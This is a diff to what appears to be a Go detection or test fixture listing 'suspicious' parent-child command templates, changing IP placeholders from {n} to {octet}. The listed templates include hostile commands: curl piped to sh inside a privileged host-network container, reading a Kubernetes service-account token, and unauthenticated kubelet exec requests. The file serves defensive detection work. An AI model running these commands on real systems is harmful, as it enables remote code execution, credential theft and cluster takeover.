@@ -85,10 +85,10 @@ var suspiciousUses = tools(
 	"python3 | python3 /opt/{word}/ops.py | docker exec {word}-{n} id",
 	"python3 | python3 /tmp/{hex}.py | kubectl exec {word}-{hex} -- cat /var/run/secrets/kubernetes.io/serviceaccount/token",
 	"node | node /srv/{word}/hook.js | docker run --rm {word}:{n} migrate",
-	"perl | perl -e print | docker run -it --privileged --net=host {word} bash -c \"curl -s http://203.0.113.{n}/x | sh\"",
+	"perl | perl -e print | docker run -it --privileged --net=host {word} bash -c \"curl -s http://203.0.113.{octet}/x | sh\"",
 	"gitlab-runner | gitlab-runner exec | docker exec {word} /bin/sh -c 'echo \"größe: {n}\" > /tmp/{hex}'",
-	"docker | docker exec {word} curl | curl -sk https://10.0.{n}.17:10250/run/kube-system/{word}/{word} -d cmd=id",
-	"podman | podman exec {word} wget | wget -qO- --post-data cmd=ls https://10.0.{n}.17:10250/exec/{word}",
+	"docker | docker exec {word} curl | curl -sk https://10.0.{octet}.17:10250/run/kube-system/{word}/{word} -d cmd=id",
+	"podman | podman exec {word} wget | wget -qO- --post-data cmd=ls https://10.0.{octet}.17:10250/exec/{word}",
 	"kubectl | kubectl exec {word} | kubectl-debug run -it node-{n}",
 )
 
